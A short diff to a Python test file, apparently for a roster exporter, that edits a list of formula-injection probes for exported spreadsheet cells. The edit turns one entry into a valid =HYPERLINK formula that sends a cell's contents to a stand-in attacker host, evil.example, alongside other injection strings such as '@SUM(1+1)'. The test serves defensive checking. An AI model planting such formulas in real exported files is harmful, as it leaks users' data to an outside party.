@@ -405,7 +405,7 @@ def test_a_good_file_is_written_by_the_importer_through_the_roster_services(
 # ---- formulas in exported cells (probe 10) ------------------------------------------------------------------
 
 FORMULAS = [
-    '=HYPERLINK（"http://evil.example/?q="&A1,"点我"）',
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
     "+86-138",
     "-2+3",
     "@SUM(1+1)",
